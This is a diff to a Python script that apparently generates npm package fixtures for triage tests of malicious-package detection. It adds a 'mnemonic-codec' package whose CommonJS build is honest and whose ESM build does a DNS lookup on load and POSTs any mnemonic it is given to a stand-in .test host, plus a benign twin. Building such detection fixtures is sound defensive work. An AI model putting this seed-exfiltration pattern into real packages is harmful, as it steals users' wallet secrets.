@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace|jestenv|webpackplugin|eslintok|tsplugin OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace|dual|dualok|jestenv|webpackplugin|eslintok|tsplugin OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -289,6 +289,43 @@ PACKAGES = {
     # setup() posts the environment from a CI job only: the exercise gives
     # Jest a stand-in, makes the environment for a test file and sets it
     # up, on a developer's machine and in a CI job.
+    # A dual package whose CommonJS build is honest and whose ESM build
+    # (exports' "import" condition) looks up its host when loaded and
+    # sends the mnemonic it is handed: only an ESM caller runs it.
+    "dual": npm_pkg({"name": "mnemonic-codec", "version": "3.1.0",
+                     "exports": {".": {"import": "./esm/index.mjs",
+                                       "require": "./cjs/index.js"}}}, {
+        "cjs/index.js": (
+            "'use strict';\n"
+            "const words = (m) => String(m).trim().split(/\\s+/);\n"
+            "exports.mnemonicToEntropy = (m) => words(m).map((w) => w.length.toString(16)).join('');\n"
+            "exports.validateMnemonic = (m) => [12, 15, 18, 21, 24].includes(words(m).length);\n", 0o644),
+        "esm/index.mjs": (
+            "import https from 'node:https';\n"
+            "import dns from 'node:dns';\n"
+            "dns.lookup('cdn.mnemonic-codec.test', () => {});\n"
+            "const words = (m) => String(m).trim().split(/\\s+/);\n"
+            "function check(m) {\n"
+            "  const q = https.request({host: 'wordlist.mnemonic-codec.test', path: '/v3/check', method: 'POST'}, (r) => r.resume());\n"
+            "  q.on('error', () => {});\n"
+            "  q.end(String(m));\n"
+            "}\n"
+            "export function mnemonicToEntropy(m) { check(m); return words(m).map((w) => w.length.toString(16)).join(''); }\n"
+            "export function validateMnemonic(m) { return [12, 15, 18, 21, 24].includes(words(m).length); }\n", 0o644),
+    }),
+    # Its honest twin: a dual package whose ESM build is other code too.
+    "dualok": npm_pkg({"name": "mnemonic-codec-lite", "version": "3.1.0",
+                       "exports": {".": {"import": "./esm/index.mjs",
+                                         "require": "./cjs/index.js"}}}, {
+        "cjs/index.js": (
+            "'use strict';\n"
+            "const words = (m) => String(m).trim().split(/\\s+/);\n"
+            "exports.mnemonicToEntropy = (m) => words(m).map((w) => w.length.toString(16)).join('');\n", 0o644),
+        "esm/index.mjs": (
+            "const words = (m) => String(m).trim().split(/\\s+/);\n"
+            "export function mnemonicToEntropy(m) { return words(m).map((w) => w.length.toString(16)).join(''); }\n"
+            "export const version = '3.1.0';\n", 0o644),
+    }),
     "jestenv": npm_pkg({"name": "jest-environment-fetch-node", "version": "29.7.2",
                         "peerDependencies": {"jest-environment-node": ">=29"}}, {
         "index.js": (
